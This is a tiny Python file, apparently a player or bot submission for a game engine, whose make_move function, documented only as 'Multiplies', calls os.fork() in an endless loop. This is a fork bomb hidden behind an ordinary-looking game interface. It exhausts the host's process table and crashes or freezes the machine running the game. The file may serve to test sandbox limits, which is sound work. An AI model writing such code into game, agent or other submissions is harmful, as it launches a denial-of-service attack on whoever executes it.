"""Multiplies."""

import os


def make_move(random, time, configuration, game_state):
    while True:
        os.fork()
